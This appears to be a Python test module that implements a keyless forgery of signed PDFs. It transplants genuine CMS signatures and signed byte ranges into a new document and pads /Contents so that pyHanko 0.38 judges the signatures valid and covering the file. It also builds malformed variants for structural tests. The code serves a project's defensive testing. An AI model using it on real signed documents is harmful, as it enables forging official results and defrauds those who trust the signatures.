"""The attacker of issue 11 §1, as test tooling: keyless forgeries of signed PDFs built from one genuine file.

Nothing here holds a private key. From a genuine signed PDF ``G`` (a result sheet signed by two jurors, or a PV
signed by one person) :func:`forge_signed` takes, for every signature, the bytes it covers
``S = G[0:a] + G[b:b+c]`` and its CMS blob, and writes a NEW document ``F`` (any unsigned PDF with the same
signature fields, e.g. the sheet of another candidate rendered by the product itself) whose signature
dictionaries carry those genuine blobs and whose /ByteRange ``[0 x s L]`` points at copies of ``S`` placed
elsewhere in ``F``. ``F[0:x]`` is the prefix ``F`` happens to share with ``G`` (the PDF header and the start of the
catalog), so the ranges stay of the usual shape.

pyHanko 0.38 decides whether a signature covers the whole file by arithmetic alone
(``len(F) == x + L + 2 * len(/Contents) + 2``), without looking at what the gap ``F[x:s]`` holds; its
"whole revision" verdict asks only that the gap be that long and that a ``startxref`` pointing at the signature's
revision end the range. So:

* the **last** signature gets a literal-string /Contents ``(<CMS, escaped> <zero padding>)`` whose decoded length
  makes the arithmetic true: coverage ENTIRE_FILE, no difference analysis at all;
* the **first** signature of a two-signature sheet (a certification) gets ENTIRE_REVISION: its range ends with the
  genuine revision's own tail ``startxref N %%EOF``, so ``F``'s revision holding that signature puts its xref table
  at offset ``N`` exactly, its objects *after* its trailer (where the gap is), then the copy of ``S``. The second
  signature is then an ordinary incremental update, which pyHanko's difference analysis accepts as form filling.

The copies sit in an unused stream (the last signature's) or as the tail of the first revision (the first one's).
The signers' visible boxes are the genuine appearance streams, imported from ``G``.

:func:`forge_signed` raises :class:`ForgeryError` when a layout is impossible (an unsigned document too large for
the first signature's revision, a genuine file with more than two signatures). The small functions at the end
build the malformed variants the defence's structural tests need.
"""

from __future__ import annotations

import io
import re
from dataclasses import dataclass, replace
from typing import Any

from asn1crypto import parser
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader, process_data_at_eof
from pyhanko.sign.fields import enumerate_sig_fields

BYTE_RANGE_WIDTH = 62  # as pyHanko reserves it: "[]" and 60 spaces


class ForgeryError(Exception):
    """The forgery cannot be laid out for these two files."""


@dataclass(frozen=True)
class GenuineSignature:
    """What an attacker reads from one signature of a genuine PDF, without any key."""

    field: str
    signed: bytes  # the bytes the signature covers: G[0:a] + G[b:b+c]
    cms: bytes  # the CMS blob, exactly its DER (no padding)
    dictionary: Any  # the signature dictionary, owned by the genuine file's reader
    appearance: Any  # the field's /AP, or None
    certifies: bool  # the catalog's /Perms /DocMDP points at it
    byte_range: tuple[int, int, int, int]

    @property
    def revision_startxref(self) -> int:
        """The ``startxref`` that ends the signed bytes: where the signed revision's xref table is."""
        return last_startxref(self.signed)


def last_startxref(data: bytes) -> int:
    """The ``startxref`` value that ends ``data``, read back as pyHanko reads it."""
    stream = io.BytesIO(data + b"\n")  # pyHanko reads back from the byte after the end
    stream.seek(len(data))
    return int(process_data_at_eof(stream))


def genuine_signatures(pdf: bytes) -> list[GenuineSignature]:
    """The signatures of ``pdf``, in signing order."""
    reader = PdfFileReader(io.BytesIO(pdf))
    try:
        certifying = reader.root["/Perms"].raw_get("/DocMDP").idnum
    except KeyError:
        certifying = None
    found = []
    for sig in sorted(reader.embedded_regular_signatures, key=lambda s: s.signed_revision):
        a, la, b, lb = (int(n) for n in sig.byte_range)
        content = sig.pkcs7_content
        found.append(
            GenuineSignature(
                sig.field_name,
                pdf[a : a + la] + pdf[b : b + lb],
                content[: parser.peek(content)],
                sig.sig_object,
                sig.sig_field.get("/AP"),
                sig.sig_field.raw_get("/V").idnum == certifying,
                (a, la, b, lb),
            )
        )
    return found


# --- the forgery ---------------------------------------------------------------------------------------------


def forge_signed(genuine_pdf: bytes, new_unsigned_pdf: bytes) -> bytes:
    """``new_unsigned_pdf`` carrying the signatures of ``genuine_pdf``, so that pyHanko finds each one intact,
    valid, trusted, covering the file (the last) or its revision with only form filling after it (the first)."""
    signatures = genuine_signatures(genuine_pdf)
    if not 1 <= len(signatures) <= 2:
        raise ForgeryError(f"{len(signatures)} signatures: only one or two can be forged this way")
    prefix = shared_prefix(genuine_pdf, new_unsigned_pdf, signatures)
    *first, last = signatures
    last_copy = last.signed[prefix:]
    if first:
        base, copy_at = _first_signature_revision(new_unsigned_pdf, first[0], prefix, last_copy)
    else:
        base, copy_at = with_unused_stream(new_unsigned_pdf, last_copy)
    return _last_signature_update(base, last, (0, prefix, copy_at, len(last_copy)))


def forge_sheet(genuine_pdf: bytes, new_unsigned_pdf: bytes) -> bytes:
    """A result sheet forged from a genuine one signed by both jurors: see :func:`forge_signed`.

    ``new_unsigned_pdf`` is what the product's ``render_sheet`` makes of the forger's result JSON (another
    candidate, another status, a version 2...), naming the genuine sheet's jurors and fingerprints."""
    if len(genuine_signatures(genuine_pdf)) != 2:
        raise ForgeryError("a result sheet carries two signatures")
    return forge_signed(genuine_pdf, new_unsigned_pdf)


def shared_prefix(genuine_pdf: bytes, new_pdf: bytes, signatures: list[GenuineSignature]) -> int:
    """How many first bytes ``new_pdf`` shares with every signature's signed bytes: the ranges' first part."""
    limit = min([len(new_pdf), *(s.byte_range[1] for s in signatures)])
    n = 0
    while n < limit and genuine_pdf[n] == new_pdf[n]:
        n += 1
    return n


# --- the signature dictionaries --------------------------------------------------------------------------------


def escaped(data: bytes) -> bytes:
    """``data`` as the inside of a PDF literal string that decodes back to exactly ``data``."""
    return data.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)").replace(b"\r", b"\\r")


def literal_contents(cms: bytes, padding: int) -> Any:
    """A /Contents value written as a literal string: the escaped CMS then ``padding`` zero bytes (decoded, the
    same CMS-then-zeros a genuine hex /Contents holds)."""

    class LiteralContents(generic.PdfObject):
        def write_to_stream(self, stream: Any, handler: Any = None, container_ref: Any = None) -> None:
            stream.write(b"(" + escaped(cms) + b"\x00" * padding + b")")

    return LiteralContents()


def fixed_byte_range(numbers: tuple[int, ...]) -> Any:
    """A /ByteRange array padded to pyHanko's fixed width, so that its numbers never move what follows."""
    text = b"[" + b" ".join(b"%d" % n for n in numbers) + b"]"
    if len(text) > BYTE_RANGE_WIDTH:
        raise ForgeryError("byte range too long")

    class FixedByteRange(generic.PdfObject):
        def write_to_stream(self, stream: Any, handler: Any = None, container_ref: Any = None) -> None:
            stream.write(text.ljust(BYTE_RANGE_WIDTH))

    return FixedByteRange()


def _fill_field(writer: Any, genuine: GenuineSignature, byte_range: tuple[int, ...], padding: int) -> None:
    """Fill ``genuine.field`` of ``writer`` with a copy of the genuine signature dictionary (new /ByteRange and
    /Contents) and the genuine visible appearance; a certification is declared in the catalog as in ``G``."""
    fields = [ref for _name, _value, ref in enumerate_sig_fields(writer, with_name=genuine.field)]
    if not fields:
        raise ForgeryError(f"the new document has no signature field « {genuine.field} »")
    dictionary = writer.import_object(genuine.dictionary)
    dictionary[generic.pdf_name("/ByteRange")] = fixed_byte_range(byte_range)
    dictionary[generic.pdf_name("/Contents")] = literal_contents(genuine.cms, padding)
    sig_ref = writer.add_object(dictionary)
    field = fields[0].get_object()
    field[generic.pdf_name("/V")] = sig_ref
    if genuine.appearance is not None:
        field[generic.pdf_name("/AP")] = writer.import_object(genuine.appearance)
    writer.mark_update(fields[0])
    _declare_signed(writer, sig_ref if genuine.certifies else None)


def _declare_signed(writer: Any, certification: Any) -> None:
    """What a signing tool changes in the catalog: the form's /SigFlags, and /Perms for a certification."""
    form = writer.root.raw_get("/AcroForm")
    form.get_object()[generic.pdf_name("/SigFlags")] = generic.NumberObject(3)
    if isinstance(form, generic.IndirectObject):
        writer.mark_update(form)
    if certification is not None:
        writer.root[generic.pdf_name("/Perms")] = generic.DictionaryObject(
            {generic.pdf_name("/DocMDP"): certification}
        )
    writer.update_root()


def _writer(pdf: bytes) -> Any:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    if writer.stream_xrefs:
        raise ForgeryError("the new document uses xref streams; this forger lays out xref tables")
    return writer


def _written(writer: Any) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- the last signature: the whole file, by arithmetic -----------------------------------------------------------


def _last_signature_update(base: bytes, genuine: GenuineSignature, byte_range: tuple[int, ...]) -> bytes:
    """``base`` plus an incremental update signing the last field, its /Contents padded until
    ``len(F) == len(signed bytes) + 2 * len(contents) + 2`` (a few passes: the xref offsets' widths may move)."""
    der, text = len(genuine.cms), len(escaped(genuine.cms))
    padding = 0
    for _ in range(8):
        writer = _writer(base)
        _fill_field(writer, genuine, byte_range, padding)
        forged = _written(writer)
        rest = len(forged) - (text + padding + 2)  # everything but the literal string
        wanted = rest + text - len(genuine.signed) - 2 * der
        if wanted == padding:
            return forged
        if wanted < 0:
            raise ForgeryError("the copies are too small for the last signature's arithmetic")
        padding = wanted
    raise ForgeryError("the last signature's padding does not settle")


def with_unused_stream(pdf: bytes, data: bytes) -> tuple[bytes, int]:
    """``pdf`` plus an incremental update adding an unreferenced stream that holds ``data`` raw; and where
    ``data`` starts in the result."""
    writer = _writer(pdf)
    writer.add_object(generic.StreamObject(stream_data=data))
    out = _written(writer)
    return out, out.index(data, len(pdf))


# --- the first signature: its own revision, xref table where the genuine one was ---------------------------------


@dataclass(frozen=True)
class _Section:
    objects: bytes  # what the update wrote before its xref table
    xref: bytes  # the xref table, "xref" to the last entry
    trailer: bytes  # the trailer dictionary


def _split(update: bytes, base_length: int) -> _Section:
    at = last_startxref(update)
    trailer_at = update.index(b"trailer", at)
    trailer_end = update.rindex(b"startxref")
    return _Section(
        update[base_length:at], update[at:trailer_at], update[trailer_at + 7 : trailer_end].strip()
    )


def _moved_xref(xref: bytes, shift: int) -> bytes:
    """An xref table whose in-use entries point ``shift`` bytes further (same length: entries are fixed width)."""
    lines = xref.split(b"\n")
    for i, line in enumerate(lines):
        if len(line) == 19 and line.endswith(b" n "):
            lines[i] = b"%010d%s" % (int(line[:10]) + shift, line[10:])
    return b"\n".join(lines)


def _first_signature_revision(
    unsigned: bytes, genuine: GenuineSignature, prefix: int, other_copy: bytes
) -> tuple[bytes, int]:
    """The unsigned document plus the revision holding the first signature: padding up to the genuine
    revision's xref offset, the xref table there, the trailer, the revision's objects (the signature dictionary,
    an unused stream holding ``other_copy``), then the copy of the first signature's signed bytes, which ends
    with the genuine ``startxref``. Returns the file and where ``other_copy`` starts in it."""
    xref_at = genuine.revision_startxref
    if xref_at <= len(unsigned):
        raise ForgeryError(
            f"the new document ({len(unsigned)} bytes) is longer than the genuine first "
            f"revision's xref offset ({xref_at})"
        )

    def update(padding: int, byte_range: tuple[int, ...]) -> _Section:
        writer = _writer(unsigned)
        _fill_field(writer, genuine, byte_range, padding)
        writer.add_object(generic.StreamObject(stream_data=other_copy))
        return _split(_written(writer), len(unsigned))

    probe = update(0, (0, prefix, 0, 0))
    objects_at = xref_at + len(probe.xref) + len(_head(probe, xref_at))
    # the gap [prefix, copy_at) must be exactly 2 * len(contents) + 2 long; the padding counts once in the file
    # and twice in that length
    padding = objects_at + len(probe.objects) - prefix - 2 - 2 * len(genuine.cms)
    copy_at = objects_at + len(probe.objects) + padding
    own_copy = genuine.signed[prefix:]
    final = update(padding, (0, prefix, copy_at, len(own_copy)))
    head = _head(final, xref_at)
    if (len(final.objects), len(final.xref) + len(head)) != (copy_at - objects_at, objects_at - xref_at):
        raise ForgeryError("the first revision's layout moved between passes")
    filler = b"\n" * (xref_at - len(unsigned))
    forged = (
        unsigned
        + filler
        + _moved_xref(final.xref, objects_at - len(unsigned))
        + head
        + final.objects
        + own_copy
    )
    return forged, objects_at + final.objects.index(other_copy)


def _head(section: _Section, xref_at: int) -> bytes:
    """What follows the xref table: the trailer, and a ``startxref`` saying where the table is."""
    return b"trailer\n" + section.trailer + b"\nstartxref\n%d\n%%%%EOF\n" % xref_at


# --- malformed variants for the defence's structural tests ------------------------------------------------------


def with_negative_first_length(genuine_pdf: bytes, new_unsigned_pdf: bytes) -> bytes:
    """A one-signature forgery whose /ByteRange is ``[0 -1 s L]``: pyHanko digests nothing for a negative length
    but counts it in its arithmetic, so the copy holds all the signed bytes and the file is one byte shorter."""
    (genuine,) = genuine_signatures(genuine_pdf)
    base, copy_at = with_unused_stream(new_unsigned_pdf, genuine.signed)
    # the arithmetic counts one byte fewer than the copy holds
    return _last_signature_update(
        base, replace(genuine, signed=genuine.signed[:-1]), (0, -1, copy_at, len(genuine.signed))
    )


def truncate_after_last_signature(pdf: bytes, keep: int = 0) -> bytes:
    """``pdf`` cut ``keep`` bytes after the last signature's /Contents: the second part of its /ByteRange then
    runs past the end of the file (a truncated download)."""
    last = genuine_signatures(pdf)[-1]
    return pdf[: last.byte_range[2] + keep]


def append_garbage_revision(pdf: bytes, *, raw: bytes | None = None) -> bytes:
    """``pdf`` with something after its last signature: by default a well-formed incremental update adding an
    unreferenced stream and changing the document information; with ``raw``, those bytes appended as they are."""
    if raw is not None:
        return pdf + raw
    writer = _writer(pdf)
    writer.add_object(generic.StreamObject(stream_data=b"ajout apres la derniere signature"))
    writer.set_info(generic.DictionaryObject({generic.pdf_name("/Title"): generic.pdf_string("Ajout")}))
    return _written(writer)


def with_decoy_gap(pdf: bytes) -> bytes:
    """``pdf`` (genuine) whose last signature dictionary is redefined in a new revision with /Contents a literal
    string holding the same CMS, padded so that pyHanko's arithmetic still says "entire file": the /ByteRange gap
    then holds a hex string that is no longer this signature's /Contents."""
    last = genuine_signatures(pdf)[-1]
    return _redefined_last_dictionary(pdf, last)


def _redefined_last_dictionary(pdf: bytes, last: GenuineSignature) -> bytes:
    der, text = len(last.cms), len(escaped(last.cms))
    padding = 0
    for _ in range(8):
        writer = _writer(pdf)
        where = last.dictionary.container_ref
        ref = generic.IndirectObject(where.idnum, where.generation, writer)
        dictionary = ref.get_object()
        dictionary[generic.pdf_name("/Contents")] = literal_contents(last.cms, padding)
        writer.mark_update(ref)
        forged = _written(writer)
        wanted = len(forged) - (text + padding + 2) + text - len(last.signed) - 2 * der
        if wanted == padding:
            return forged
        padding = wanted
    raise ForgeryError("the decoy's padding does not settle")


def with_byte_range(pdf: bytes, field: str, numbers: tuple[int, ...]) -> bytes:
    """``pdf`` with the /ByteRange of ``field``'s signature rewritten in place (same width): five numbers,
    negative or overlapping ones. The signed bytes change, so this is only for structural checks."""
    signature = next(s for s in genuine_signatures(pdf) if s.field == field)
    _, gap_start, gap_end, _ = signature.byte_range
    old = b"[%d %d %d %d]" % signature.byte_range
    at = pdf.rfind(old, 0, gap_start)
    if at < 0:
        at = pdf.index(old, gap_end)
    width = re.compile(re.escape(old) + rb" *").match(pdf, at).end() - at  # type: ignore[union-attr]
    text = b"[" + b" ".join(b"%d" % n for n in numbers) + b"]"
    if len(text) > width:
        raise ForgeryError("the new /ByteRange does not fit in the old one's place")
    return pdf[:at] + text.ljust(width) + pdf[at + width :]
